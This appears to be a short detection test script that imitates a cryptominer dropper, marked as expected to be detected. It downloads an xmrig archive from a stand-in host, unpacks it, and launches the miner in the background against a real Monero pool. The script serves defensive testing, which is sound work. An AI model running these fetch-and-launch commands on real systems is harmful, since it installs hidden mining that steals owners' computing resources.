# tries: fetch a miner as its dropper does
# expect: detected
dir=$(mktemp -d)
cd "$dir" || exit 0
curl -sL --max-time 1 http://miner.invalid/xmrig.tar.gz 2>/dev/null | tar xz 2>/dev/null
nohup ./xmrig -o pool.supportxmr.com:443 -u wallet --coin monero >/dev/null 2>&1 &
wait
exit 0
